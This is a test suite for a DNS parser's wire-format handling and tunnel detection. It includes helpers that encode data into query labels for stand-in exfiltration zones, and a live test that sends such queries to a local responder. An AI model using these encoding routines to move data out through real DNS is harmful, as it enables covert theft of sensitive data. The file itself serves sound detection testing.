"""DNS parser: wire format, payloads, TCP framing, tunnel detection (iodine capture, live lo)."""

from __future__ import annotations

import base64
import dataclasses
import os
import random
import socket
import threading
from pathlib import Path

import dns.edns
import dns.message
import dns.name
import dns.query
import dns.rdatatype
import dns.resolver
import dns.rrset
import pytest

from sandbox.captures import open_capture
from sandbox.captures.writer import PcapWriter, TcpConversation
from sandbox.model import FlowInfo, Observation, Payload, Segment
from sandbox.protocols import Dissector
from sandbox.protocols import dns as dnsmod
from sandbox.protocols.context import FlowContext
from sandbox.protocols.dns import DnsError, DnsParser, encoded_chars, parse_message, read_name, split_zone
from tests.loopback import record_lo

IODINE = "captures/dns_tunnel/elastic_dns-tunnel-iodine.pcap"
DEMO = Path(__file__).resolve().parents[2] / "captures" / "demo" / "demo.pcapng"
ORDINARY = ["www.example.com", "mail.example.com", "api.github.com", "github.com", "www.google.com",
            "fonts.googleapis.com", "www.bbc.co.uk", "news.bbc.co.uk", "pypi.org", "files.pythonhosted.org",
            "ntp.ubuntu.com", "time.windows.com", "login.microsoftonline.com", "www.illumina.com",
            "basespace.illumina.com", "s3.amazonaws.com", "a1.example.com", "a2.example.com",
            "cdn.example.com", "static.example.com"]


def dissect(segments: list[Segment]) -> tuple[list[Payload | Observation], Dissector]:
    d = Dissector()
    out: list[Payload | Observation] = []
    for seg in segments:
        out += d.feed(seg)
    return out + d.close(), d


def dissect_file(path: Path) -> tuple[list[Payload | Observation], Dissector]:
    return dissect(list(open_capture(path)))


def query_wire(name: str, rdtype: str = "A", ident: int = 1) -> bytes:
    q = dns.message.make_query(name, rdtype)
    q.id = ident
    return q.to_wire()


def tunnels(items: list) -> list[Observation]:
    """dns-tunnel observations merged per (flow, zone) as the correlator merges them into one finding:
    a zone flagged once gets updates (newest detail, label bytes added) when queried again."""
    merged: dict[tuple[str, str], Observation] = {}
    for o in items:
        if not isinstance(o, Observation) or o.kind != "dns-tunnel":
            continue
        seen = merged.get((o.flow, o.destination))
        if seen is None:
            merged[o.flow, o.destination] = dataclasses.replace(o, detail=dict(o.detail))
        else:
            seen.bytes_out += o.bytes_out
            seen.t_first, seen.t_last = min(seen.t_first, o.t_first), max(seen.t_last, o.t_last)
            seen.detail.update(o.detail)
    return list(merged.values())


def pls(items: list, label: str) -> list[Payload]:
    return [p for p in items if isinstance(p, Payload) and label in p.chain]


def lines(items: list, label: str) -> list[bytes]:
    """Query names (or their data labels), one per line of the batched payloads."""
    return [line for p in pls(items, label) for line in p.data.split(b"\n")]


# --------------------------------------------------------------------------- wire format


def test_parse_response_with_compression_and_txt() -> None:
    q = dns.message.make_query("run-42.example.com", "TXT")
    r = dns.message.make_response(q)
    r.answer.append(dns.rrset.from_text("run-42.example.com.", 60, "IN", "TXT", '"abc" "def"'))
    r.answer.append(dns.rrset.from_text("run-42.example.com.", 60, "IN", "CNAME", "alias.run-42.example.com."))
    msg = parse_message(r.to_wire())
    assert msg.response and msg.questions[0][0] == [b"run-42", b"example", b"com"]
    txt, cname = msg.records
    assert txt.data == b"abcdef" and txt.name == [b"run-42", b"example", b"com"]
    assert cname.data == b"alias.run-42.example.com"   # name rdata decompressed


def test_pointer_loop_forward_pointer_and_truncation_are_errors() -> None:
    header = b"\x00\x01\x00\x00\x00\x01" + b"\x00" * 6
    with pytest.raises(DnsError):   # pointer to itself
        parse_message(header + b"\xc0\x0c\x00\x01\x00\x01")
    with pytest.raises(DnsError):   # forward pointer
        parse_message(header + b"\xc0\x20" + b"\x00" * 40)
    with pytest.raises(DnsError):
        parse_message(header + b"\x05ab")
    with pytest.raises(DnsError):
        parse_message(b"\x00\x01")
    long_name = b"".join(b"\x3f" + b"a" * 63 for _ in range(5)) + b"\x00"
    with pytest.raises(DnsError):
        read_name(long_name, 0)


def test_split_zone_handles_multi_part_suffixes() -> None:
    assert split_zone([b"a", b"b", b"example", b"co", b"uk"]) == ([b"a", b"b"], [b"example", b"co", b"uk"])
    assert split_zone([b"www", b"example", b"com"]) == ([b"www"], [b"example", b"com"])
    assert split_zone([b"example", b"com"]) == ([], [b"example", b"com"])


def test_udp_parser_never_raises_on_garbage() -> None:
    info = FlowInfo(flow="udp x", channel="net", transport="udp", src="10.0.0.2", sport=5000,
                    dst="10.0.0.1", dport=53, destination="10.0.0.1")
    ctx = FlowContext(flow="udp x", info=info, shared={}, chain=("udp",))
    parser = DnsParser(ctx)
    out = parser.feed("out", b"\x00\x01\x00\x00\x00\x01" + b"\x00" * 6 + b"\xc0\x0c", 1.0)
    assert [p.chain for p in out] == [("udp", "dns malformed")] and info.errors
    assert parser.close(2.0) == []


# --------------------------------------------------------------------------- payloads


def test_query_and_answer_payloads_via_dissector() -> None:
    q = dns.message.make_query("x7k2.data.exfil.test", "TXT")
    r = dns.message.make_response(q)
    r.answer.append(dns.rrset.from_text(q.question[0].name, 0, "IN", "TXT", '"secret-reply"'))
    r.answer.append(dns.rrset.from_text(q.question[0].name, 0, "IN", "A", "192.0.2.1"))
    segs = [Segment(1.0, "net", "udp", "10.0.0.2", 40000, "10.0.0.53", 53, q.to_wire()),
            Segment(1.1, "net", "udp", "10.0.0.53", 53, "10.0.0.2", 40000, r.to_wire())]
    items, d = dissect(segs)
    (name,) = pls(items, "dns query TXT")
    assert name.data == b"x7k2.data.exfil.test" and name.direction == "out"
    assert name.destination == "exfil.test" and name.meta["resolver"] == "10.0.0.53" and name.meta["qtype"] == "TXT"
    (qname,) = pls(items, "dns qname")
    assert qname.data == b"x7k2data" and qname.chain == ("udp", "dns qname")
    (answer,) = pls(items, "dns answer TXT")
    assert answer.data == b"secret-reply" and answer.direction == "in"
    assert not pls(items, "dns answer A")   # addresses are not content
    assert d.flows["udp 10.0.0.2:* > 10.0.0.53:53"].app == "dns"   # any client port: one flow


def test_answers_say_which_names_an_address_was_given_for_and_new_flows_carry_them() -> None:
    """A CNAME chain from the question's name to its A record vouches for the address under every name
    on it; glue off the chain vouches for nothing; nor do answers the instrument sends."""
    q = dns.message.make_query("lims.lab.example", "A")
    r = dns.message.make_response(q)
    r.answer.append(dns.rrset.from_text("lims.lab.example.", 60, "IN", "CNAME", "lb.cloud.example."))
    r.answer.append(dns.rrset.from_text("lb.cloud.example.", 60, "IN", "A", "198.51.100.10"))
    r.additional.append(dns.rrset.from_text("ns.evil.example.", 60, "IN", "A", "203.0.113.66"))
    served = dns.message.make_response(dns.message.make_query("printer.lan", "A"))
    served.answer.append(dns.rrset.from_text("printer.lan.", 60, "IN", "A", "203.0.113.99"))
    segs = [Segment(1.0, "net", "udp", "10.0.0.2", 40000, "10.0.0.53", 53, q.to_wire()),
            Segment(1.1, "net", "udp", "10.0.0.53", 53, "10.0.0.2", 40000, r.to_wire()),
            Segment(1.3, "net", "udp", "10.0.0.2", 53, "10.0.0.9", 5353, served.to_wire()),    # sent, not received
            Segment(2.0, "net", "tcp", "10.0.0.2", 41000, "198.51.100.10", 443, b"", flags=0x02),
            Segment(2.1, "net", "tcp", "10.0.0.2", 41001, "203.0.113.66", 443, b"", flags=0x02),
            Segment(2.2, "net", "tcp", "10.0.0.2", 41002, "203.0.113.99", 443, b"", flags=0x02)]
    _, d = dissect(segs)
    meta = {f.dst: f.meta.get("resolved") for f in d.flows.values() if f.transport == "tcp"}
    assert meta == {"198.51.100.10": [["lims.lab.example", "10.0.0.53"], ["lb.cloud.example", "10.0.0.53"]],
                    "203.0.113.66": None, "203.0.113.99": None}


def test_dns_over_tcp_length_framing(tmp_path: Path) -> None:
    pcap = tmp_path / "dnstcp.pcap"
    q1, q2 = query_wire("first.example.org", ident=1), query_wire("second.example.org", "TXT", ident=2)
    r = dns.message.make_response(dns.message.from_wire(q2))
    r.answer.append(dns.rrset.from_text("second.example.org.", 0, "IN", "TXT", '"over-tcp"'))
    framed = b"".join(len(m).to_bytes(2, "big") + m for m in (q1, q2))
    with PcapWriter(pcap) as w:
        conv = TcpConversation(w, ("10.0.0.2", 41000), ("10.0.0.53", 53), t0=1.0, mss=7)   # split frames
        conv.send(framed)
        rw = r.to_wire()
        conv.send(len(rw).to_bytes(2, "big") + rw, from_client=False)
        conv.close()
    items, d = dissect_file(pcap)
    names = [p.data for p in items if isinstance(p, Payload) and p.chain[1].startswith("dns query")]
    assert sorted(names) == [b"first.example.org", b"second.example.org"]   # A and TXT: one batch each
    assert [p.data for p in pls(items, "dns answer TXT")] == [b"over-tcp"]
    assert all(p.chain[0] == "tcp" for p in pls(items, "dns qname"))
    assert next(iter(d.flows.values())).app == "dns"


# --------------------------------------------------------------------------- tunnel detection


def _exfil_queries(payload: bytes, zone: str, rdtype: str = "TXT") -> list[bytes]:
    """dnscat/DNSExfiltrator style: base32 chunks in 60-char labels, a counter label first."""
    enc = base64.b32encode(payload).decode().rstrip("=").lower()
    return [query_wire(f"{i:04x}.{enc[o:o + 60]}.{zone}", rdtype, ident=i)
            for i, o in enumerate(range(0, len(enc), 60))]


def test_tunnel_flagged_and_labels_decode_to_the_payload() -> None:
    secret = (b"@read1\nACGTTGCAACGTAGCTAGCTAGGATCCGATCGATCGTAGCTAGCTAG\n+\nIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIII\n" * 40)
    segs = [Segment(1.0 + i * 0.05, "net", "udp", "10.0.0.2", 40000 + i % 7, "10.0.0.53", 53, w)
            for i, w in enumerate(_exfil_queries(secret, "t.exfil-example.net"))]
    items, _ = dissect(segs)
    (obs,) = tunnels(items)
    assert obs.severity == "medium" and obs.destination == "exfil-example.net"
    assert obs.detail["domain"] == "exfil-example.net" and obs.detail["unique_names"] == len(segs)
    assert obs.detail["queries"] == len(segs) and obs.detail["bytes_in_labels"] > 4096
    assert "long high-entropy labels" in obs.detail["signals"]
    assert all(len(e) <= dnsmod.EXAMPLE_LEN for e in obs.detail["examples"])
    # the "dns qname" payloads carry the base32 chunks joined back into the text the decoders undo
    # (the counter and "t" labels are not data: they stay with the names)
    text = b"".join(line for line in lines(items, "dns qname")).decode().upper()
    assert base64.b32decode(text + "=" * (-len(text) % 8)) == secret
    assert len(pls(items, "dns qname")) < len(segs) / 10    # batched: one payload for many queries
    assert all(name.startswith(b"0") and name.endswith(b".t.exfil-example.net") for name in lines(items, "dns query TXT"))


def test_ordinary_lookups_not_flagged() -> None:
    segs = []
    for rep in range(3):
        for i, name in enumerate(ORDINARY):
            t = rep * 30 + i * 0.5
            segs.append(Segment(t, "net", "udp", "10.0.0.2", 30000 + i, "10.0.0.53", 53, query_wire(name, "A")))
            segs.append(Segment(t, "net", "udp", "10.0.0.2", 30000 + i, "10.0.0.53", 53,
                                query_wire(name, "AAAA")))
    items, _ = dissect(segs)
    assert not tunnels(items)
    assert len(lines(items, "dns query A")) == len(ORDINARY)   # retransmits within a flow skipped


# --------------------------------------------------------------------------- low-volume rule

READS = ["GATTACAGGCTTAACCGTAGCTAGGATCCGATNNACGTTGCAAGGCTTAACCGTTAGCCATGCAAGGCTTAACCGTAGCTAGGAT",
         "TTGCAAGGCTTAACCGTAGCTAGGATCCGATCGATCGTAGCTAGCTAGACGTTGCAAGGCTTAACCGTTAGCCAGGATCCGATCG",
         "CCGATCGATCGTAGCTAGCTAGACGTTGCAAGGCTTAACCGTGATTACAGGCTTAACCGTAGCTAGGATCCGATGGCTTAACCGT"]


def low_volume_exfil(zone: str, reads: list[str], sample: str = "PT5698-N1") -> list[str]:
    """As the demo does it: the sample ID in base32, then each read in hex labels (2 per read)."""
    tag = base64.b32encode(sample.encode()).decode().rstrip("=").lower()
    names = [f"{tag}.id.{zone}"]
    for n, read in enumerate(reads):
        for part in range(0, len(read), 76):
            hexed = read[part:part + 76].encode().hex()
            labels = [hexed[i:i + 60] for i in range(0, len(hexed), 60)]
            names.append(".".join([*labels, f"r{n}p{part // 76}", tag, zone]))
    return names


def udp_queries(names: list[str], rdtype: str = "A", gap: float = 0.8) -> list[Segment]:
    """One socket, one query per name, ``gap`` seconds apart (slow: no rate signal)."""
    return [Segment(1.0 + i * gap, "net", "udp", "10.0.0.2", 40000, "10.0.0.53", 53,
                    query_wire(name, rdtype, ident=i)) for i, name in enumerate(names)]


@pytest.mark.parametrize("label, chars", [
    ("3431343334", 0),                         # hex of DNA text, but too short to be a data label
    ("414347545441474341434754", 24),          # ... long enough: all digits, ~2 bits/char
    ("000000000000000000000000", 0),           # padding, no variety
    ("deadbeefcafebabefacade00", 24), ("deadbeefcafebabefacade", 0),   # hex words need a digit
    ("mzxw6ytboi3tmnrqgiytmnzq", 24),          # base32 data
    ("cluster3east", 0), ("node7worker2", 0),  # words with a digit: too many vowels
    ("aGVsbG8gd29ybGQgdGhpcyBp", 24),          # base64url data
    ("3f2504e0-4f89-11d3-9a0c-0305e82c3301", 0),  # a UUID with dashes: an identifier, not payload
    ("d1234abcd5678", 13), ("prod-useast1-telemetry2", 0), ("illuminaprodstorage01", 0)])
def test_encoded_label_shapes(label: str, chars: int) -> None:
    assert encoded_chars([label.encode(), b"www"]) == chars


def test_service_names_carry_no_encoded_data() -> None:
    assert encoded_chars([b"3a1f5c9e8b7d6a4f2e1c0b9a8d7e6f5a", b"_googlecast", b"_tcp"]) == 0
    assert encoded_chars([b"mzxw6ytboi3tmnrqgiytmnzq", b"_acme-challenge"]) == 0


def test_low_volume_hex_exfil_is_flagged() -> None:
    """A sample ID and three reads in 7 slow queries: far below 30 names, still a tunnel."""
    names = low_volume_exfil("c2.telemetry-cache.test", READS)
    items, _ = dissect(udp_queries(names))
    (obs,) = tunnels(items)
    assert obs.destination == "telemetry-cache.test" and obs.detail["queries"] == len(names) == 7
    assert obs.detail["encoded_names"] == 6 and obs.detail["signals"] == ["encoded data in labels"]
    assert obs.flow == "udp 10.0.0.2:* > 10.0.0.53:53" and obs.severity == "medium"


def test_low_volume_rule_needs_enough_encoded_names() -> None:
    """Three data-bearing names (one read and the ID) stay below the threshold of four."""
    assert dnsmod.TUNNEL_ENCODED_NAMES == 4
    items, _ = dissect(udp_queries(low_volume_exfil("t.exfil.test", READS[:1])))
    assert not tunnels(items)
    rng = random.Random(20261123)  # fixed: a random label without a digit is (rightly) not "encoded"
    names = [f"{base64.b32encode(rng.randbytes(20)).decode().rstrip('=').lower()}.q.exfil.test" for _ in range(4)]
    assert not tunnels(dissect(udp_queries(names[:3], "TXT"))[0])
    (obs,) = tunnels(dissect(udp_queries(names, "TXT"))[0])
    assert obs.detail["domain"] == "exfil.test" and obs.detail["encoded_names"] == 4


def test_demo_capture_dns_leg_is_flagged() -> None:
    if not DEMO.is_file():
        pytest.skip("captures/demo not generated")
    items, _ = dissect_file(DEMO)
    assert [(o.detail["domain"], o.flow) for o in tunnels(items)] == [
        ("telemetry-cache.test", "udp 10.20.0.5:* > 10.20.0.1:53")]


def _reverse6(i: int) -> str:
    addr = f"20010db8{i:024x}"
    return ".".join(reversed(addr)) + ".ip6.arpa"


NOT_TUNNELS = {
    "cdn": [f"d{h}.cloudfront.net" for h in ("1234abcd5678", "3kx9c2b0a1z7q", "2f1b0c9a8e7d6c5", "9a8b7c6d")]
    + [f"e{n}.dscb.akamaiedge.net" for n in (7512, 673, 1234, 9981)]
    + [f"r{n}---sn-4g5e6nz{c}.googlevideo.com" for n, c in ((3, "z"), (4, "s"), (5, "l"), (1, "k"))]
    + [f"{h}.cdn.example.com" for h in ("ab12cd34ef56ab78cd90", "0f1e2d3c4b5a69788796", "a1b2c3d4e5f6a7b8c9d0",
                                        "9f8e7d6c5b4a39281706")],
    "reverse": [f"{i}.{i * 7 % 256}.51.198.in-addr.arpa" for i in range(1, 60)] + [_reverse6(i) for i in range(130)],
    "dns-sd": [f"Chromecast-{os.urandom(16).hex()}._googlecast._tcp.local" for _ in range(8)]
    + [f"{os.urandom(16).hex()}-{os.urandom(4).hex()}.local" for _ in range(8)]
    + ["_services._dns-sd._udp.local", "_ipp._tcp.local", "Brother HL-L2350DW._ipp._tcp.local"],
    "service": [f"{os.urandom(16).hex()}._http._tcp.lab.example.com" for _ in range(8)]
    + [f"_acme-challenge.{os.urandom(12).hex()}.example.org" for _ in range(8)]
    + ["_ldap._tcp.dc._msdcs.corp.example.com", "_kerberos._udp.corp.example.com"],
    "ordinary": ORDINARY + ["123456789012.dkr.ecr.us-east-1.amazonaws.com",
                            "a3k7odshaiipe8-ats.iot.us-east-1.amazonaws.com",
                            "vpce-0123456789abcdef0-abcdefgh.s3.us-east-1.vpce.amazonaws.com",
                            "ec2-54-23-1-2.compute-1.amazonaws.com", "illuminaprodstorage01.blob.core.windows.net",
                            "cluster3east.node7worker2.k8s.example.com", "prod-useast1-telemetry2.vendor.example"],
}


@pytest.mark.parametrize("kind", sorted(NOT_TUNNELS))
def test_ordinary_shapes_never_flagged(kind: str) -> None:
    """CDN hash names, reverse lookups, DNS-SD/mDNS, _service names and plain hosts, fast and repeated."""
    names = NOT_TUNNELS[kind]
    segs = udp_queries(names * 2, "PTR" if kind == "reverse" else "A", gap=0.05)   # 20/s, over 5 s
    if kind == "dns-sd":   # mDNS: multicast on 5353
        segs = [Segment(s.t, s.channel, s.transport, s.src, 5353, "224.0.0.251", 5353, s.data) for s in segs]
    items, _ = dissect(segs)
    assert len(lines(items, "dns query " + ("PTR" if kind == "reverse" else "A"))) >= len(set(names)) // 2
    assert not tunnels(items)


def test_zone_state_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(dnsmod, "MAX_ZONES", 10)
    monkeypatch.setattr(dnsmod, "MAX_UNIQUE_NAMES", 5)
    segs = [Segment(float(i), "net", "udp", "10.0.0.2", 40000, "10.0.0.53", 53,
                    query_wire(f"h{i}.zone{i % 50}.test", ident=i)) for i in range(400)]
    d = Dissector()
    for s in segs:
        d.feed(s)
    zones = dnsmod.tracker(d.shared)
    assert len(zones.zones) <= 10
    assert all(len(z.seen) <= 5 for z in zones.zones.values())
    d.close()


def test_iodine_capture_is_flagged(shared_data: Path) -> None:
    items, d = dissect_file(shared_data / IODINE)
    (obs,) = tunnels(items)
    assert obs.destination == "pirate.sea" and obs.detail["domain"] == "pirate.sea"
    assert obs.detail["queries"] >= 200 and obs.detail["unique_names"] >= 200
    assert "TXT/NULL heavy" in obs.detail["signals"]
    assert obs.flow == "udp 10.0.2.30:* > 10.0.2.20:53" and obs.detail["resolver"] == "10.0.2.20"
    assert len(lines(items, "dns query NULL")) >= 200 and len(pls(items, "dns answer NULL")) >= 200
    assert not any(f.errors for f in d.flows.values())


# --------------------------------------------------------------------------- live, recorded on lo


class Responder:
    """A tiny answer-everything UDP DNS server on port 53 of a loopback address of its own.

    Port 53 because that is where an instrument's resolver is (the parser is picked by port);
    127.0.53.53 so it cannot collide with a local resolver stub on 127.0.0.1/127.0.0.53.
    """

    ADDRESS = "127.0.53.53"

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            self.sock.bind((self.ADDRESS, 53))
        except OSError as exc:
            self.sock.close()
            pytest.skip(f"cannot bind {self.ADDRESS}:53 ({exc}); needs root as in CI")
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self.stop:
            try:
                wire, addr = self.sock.recvfrom(65535)
            except TimeoutError:
                continue
            q = dns.message.from_wire(wire)
            r = dns.message.make_response(q)
            qname, qtype = q.question[0].name, q.question[0].rdtype
            if qtype == dns.rdatatype.TXT:
                r.answer.append(dns.rrset.from_text(qname, 60, "IN", "TXT", '"v=spf1 -all"'))
            elif qtype == dns.rdatatype.A:
                r.answer.append(dns.rrset.from_text(qname, 60, "IN", "A", "192.0.2.10"))
            self.sock.sendto(r.to_wire(), addr)

    def __enter__(self) -> Responder:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop = True
        self.thread.join(2)
        self.sock.close()


@pytest.mark.e2e
def test_live_lookups_on_lo_not_flagged_but_exfil_is(tmp_path: Path) -> None:
    pcap = tmp_path / "dns.pcapng"
    with Responder() as srv, record_lo(pcap, f"udp and host {srv.ADDRESS}"):
        res = dns.resolver.Resolver(configure=False)
        res.nameservers, res.port, res.lifetime = [srv.ADDRESS], srv.port, 3.0
        for name in ORDINARY:
            assert res.resolve(name, "A")[0].address == "192.0.2.10"
        res.resolve("example.com", "TXT")
        secret = b"Sample_ID,Sample_Name\nS1,patient-0042\n" * 80   # ~60 queries
        for wire in _exfil_queries(secret, "x.exfil-example.net"):
            dns.query.udp(dns.message.from_wire(wire), srv.ADDRESS, port=srv.port, timeout=3)
    items, d = dissect_file(pcap)
    queried = {name.decode() for name in lines(items, "dns query A")}
    assert set(ORDINARY) <= queried
    assert [p.data for p in pls(items, "dns answer TXT") if p.data == b"v=spf1 -all"]
    flagged = tunnels(items)
    assert [o.detail["domain"] for o in flagged] == ["exfil-example.net"]
    assert all(f.app == "dns" for f in d.flows.values())


def test_a_tunnel_is_reported_when_the_client_goes_quiet_not_when_its_flow_times_out() -> None:
    """Live: the flow table's idle flush judges the zones, so the finding lands within a second."""
    segments = udp_queries(low_volume_exfil("c2.telemetry-cache.test", READS))
    d = Dissector()
    out: list = []
    for seg in segments:
        out += d.feed(seg)
    out += d.tick(segments[-1].t + 1.0)          # quiet for a second; the flow is far from its timeout
    (obs,) = tunnels(out)
    assert obs.detail["queries"] == 7 and obs.detail["encoded_names"] == 6
    assert [p for p in out if isinstance(p, Payload) and "dns qname" in p.chain]   # the names went too
    assert tunnels(d.close()) == []              # nothing new at the end: no second report


def test_a_query_s_fields_are_read_across_queries_for_one_name() -> None:
    """Ids, question types and an EDNS cookie of queries for one name (each skipped as a name asked
    again), each field joined over the queries in order."""
    ids, types, cookies = [], [], []
    segments = []
    for n in range(6):
        q = dns.message.make_query("lims.lab.example", "A", use_edns=0, options=[
            dns.edns.GenericOption(10, b"cookie%02d" % n)])
        q.id = 0x4100 + n
        q.question[0].rdtype = 0x5000 + n
        ids.append(q.id.to_bytes(2, "big"))
        types.append((0x5000 + n).to_bytes(2, "big"))
        cookies.append(b"cookie%02d" % n)
        segments.append(Segment(1 + n * 0.01, "net", "udp", "10.0.0.2", 33000 + n, "10.0.0.53", 53, q.to_wire()))
    items, _ = dissect(segments)
    joined: dict[tuple, bytes] = {}
    for p in items:
        if isinstance(p, Payload) and p.chain[-1] == "messages joined":
            joined[p.chain[1:-1]] = joined.get(p.chain[1:-1], b"") + p.data[p.repeated:]
    assert joined[("dns id",)] == b"".join(ids)
    assert joined[("dns question type",)] == b"".join(types)
    assert joined[("dns edns option 10",)] == b"".join(cookies)
